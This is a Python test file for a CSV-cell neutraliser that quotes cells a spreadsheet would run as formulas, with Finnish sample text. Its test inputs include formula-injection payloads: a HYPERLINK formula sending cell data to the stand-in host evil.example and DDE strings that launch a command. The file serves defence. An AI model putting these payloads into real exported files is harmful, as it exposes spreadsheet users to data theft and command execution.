"""CSV cells a spreadsheet would run as a formula get a quote in front; numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from service_catalog.csv_cells import neutralised, neutralised_row


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?d="&A1,"Avaa")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "-5 astetta pakkasta",
        "-",
        "=",
    ],
)
def test_a_cell_that_could_be_a_formula_gets_a_quote(cell):
    assert neutralised(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell",
    ["", "hei, 'lainaus' ja pilkku", "Maaherrankatu 1", "-12", "-1,5", "-0.25", "+358 40 123 4567",
     "+358 (0)40 123 4567", "112", "a=b", " =1+1", "'=already quoted"],
)  # fmt: skip
def test_text_numbers_and_phone_numbers_stay_as_they_are(cell):
    assert neutralised(cell) == cell


def test_a_row_leaves_numbers_and_empty_cells_to_the_writer():
    out = io.StringIO()
    csv.writer(out).writerow(neutralised_row([-3, None, "=1+1", "teksti"]))
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["-3", "", "'=1+1", "teksti"]
